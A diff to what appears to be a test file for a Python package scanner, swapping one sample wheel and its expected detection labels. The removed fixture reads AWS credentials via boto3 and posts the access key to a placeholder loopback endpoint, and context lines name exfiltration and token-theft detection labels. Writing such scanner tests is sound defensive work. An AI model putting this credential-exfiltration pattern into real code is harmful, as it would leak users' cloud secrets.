@@ -344,7 +344,7 @@ CASES = [
         frozenset({"telegram-bot-token", "exfil-endpoint-network"}),
     ),
     Case(
-        "cloud-credentials-posted-by-a-function",
+        "template-metadata-on-a-function-that-calls-home",
         "demo-1.0-py3-none-any.whl",
         wheel(
             "demo",
@@ -352,17 +352,19 @@ CASES = [
             {
                 **LIBRARY,
                 "demo/__init__.py": "",
-                "demo/aws.py": code(f"""
-            import boto3, requests
+                "demo/sync.py": code(f"""
+            import requests
 
-            def sync():
-                credentials = boto3.Session().get_credentials()
-                requests.post("{LOOPBACK}/k", json={{"a": credentials.access_key}})
+            def sync(data):
+                requests.post("{LOOPBACK}/s", data=data)
             """),
             },
+            info=pkg_info("demo", "1.0").replace(
+                "\n\n", "\nAuthor-email: Your Name <you@example.com>\n\n", 1
+            ),
         ),
         "suspicious",
-        frozenset({"cloud-credential-exfil"}),
+        frozenset({"template-metadata-capabilities", "metadata-template"}),
     ),
 ]
 
